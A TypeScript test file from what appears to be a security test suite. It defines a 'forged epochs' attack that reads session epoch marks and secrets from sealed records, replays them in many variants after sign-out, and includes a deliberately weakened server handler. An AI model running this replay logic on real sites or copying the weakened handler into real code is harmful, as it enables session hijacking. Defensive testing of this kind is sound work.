import type { IncomingMessage, ServerResponse } from 'node:http';
import type { Attack } from '../attack.js';
import type { Stage } from '../outside/stage.js';
import { installVaultKit, type VaultKit } from './vault-records.js';
import { type Copy, copySession, note, putBack, signOut } from './vault-rollback.js';

declare const vaultKit: VaultKit;

/** What a script can know of an epoch: its mark, and whatever the sealed records show that is shaped like a secret. */
async function readEpoch(): Promise<{ mark: string; secrets: string[] }> {
  const answer = await fetch('/service-worker.js?now', { cache: 'reload' });
  const records = await vaultKit.read();
  const heads = records.map(({ jwe }) =>
    atob((jwe.split('.')[0] ?? '').replaceAll('-', '+').replaceAll('_', '/')),
  );
  const shown = JSON.stringify([records, heads]).match(/[\da-f]{8}-[\da-f-]{27}/g) ?? [];
  return { mark: answer.headers.get('session-keeper-epoch') ?? '', secrets: [...new Set(shown)] };
}

/** Wants a former epoch to be the present one again. */
async function wantItBack({ mark, secrets }: { mark: string; secrets: string[] }): Promise<void> {
  const script = '/service-worker.js';
  const hex = Array.from(atob(mark.replaceAll('-', '+').replaceAll('_', '/')), (letter) =>
    letter.charCodeAt(0).toString(16).padStart(2, '0'),
  ).join('');
  const uuid = hex.replace(/^(.{8})(.{4})(.{4})(.{4})(.{12}).*/, '$1-$2-$3-$4-$5');
  const about = [
    mark,
    `${mark}=`,
    `${mark}, ${mark}`,
    mark.slice(0, 36),
    hex,
    hex.slice(0, 36),
    uuid,
    ...secrets,
  ];
  const ask = async (question: string, given: string, more: RequestInit = {}) => {
    const headers = { 'session-keeper-epoch': given };
    const init = { method: 'POST', headers, ...more };
    const response = await fetch(`${script}?${question}`, init).catch(() => undefined);
    attacker.take(`?${question}`, [[...(response?.headers ?? [])], await response?.text()]);
    return question.startsWith('next') && response?.headers.get('session-keeper-epoch') === mark;
  };
  for (const given of about) {
    // What is there again is left alone.
    for (const question of ['end', 'now', '%6eext', 'before', `next=${given}`, `next&epoch=${given}`, 'next'])
      if (await ask(question, given)) return;
    for (const more of [{ body: given }, { method: 'PUT' }, { credentials: 'omit' }] satisfies RequestInit[])
      if (await ask('next', given, more)) return;
  }
}

async function forge(stage: Stage, isOver: boolean): Promise<Copy> {
  const copy = await copySession(stage);
  const known = await stage.run(readEpoch, undefined);
  if (isOver) await signOut(stage);
  else await stage.run(wantItBack, known);
  if (!isOver) await signOut(stage);
  await stage.run(wantItBack, known);
  await putBack(stage, copy);
  await stage.endWorker();
  return copy;
}

/** A server that takes the mark itself where the secret is asked for. */
function takesMark(req: IncomingMessage, res: ServerResponse): boolean {
  const mark = String(req.headers['session-keeper-epoch']);
  const [, id] = /session-keeper-seal=([\w-]{43})/.exec(req.headers.cookie ?? '') ?? [];
  if (!req.url?.endsWith('?next') || !/^[\w-]{43}$/.test(mark) || !id) return false;
  const cookie = `session-keeper-seal=${id}.${mark}; Path=/; Max-Age=3600; HttpOnly; SameSite=Lax`;
  res.writeHead(204, { 'set-cookie': cookie, 'session-keeper-epoch': mark }).end();
  return true;
}

export const forgedEpochs: Attack = {
  name: 'forged epochs',
  tries:
    'asks for the present epoch, and after the sign-out for that one again, by its mark and all that the records show; then puts the records back',
  threat: '5.1.2',
  defence: 'an epoch is had by the secret that its mark is made from, which is in the sealed record alone',
  before: installVaultKit,
  signedIn: 'nobody',
  weakness: {
    without: 'that secret: the server takes the mark itself',
    weaken: (stage) => stage.onAppRequest(takesMark),
  },
  run: async (stage) => {
    for (const isOver of [true, false]) {
      const copy = await forge(stage, isOver);
      await note(stage, copy, isOver ? 'wanted back afterwards' : 'wanted before');
    }
  },
};
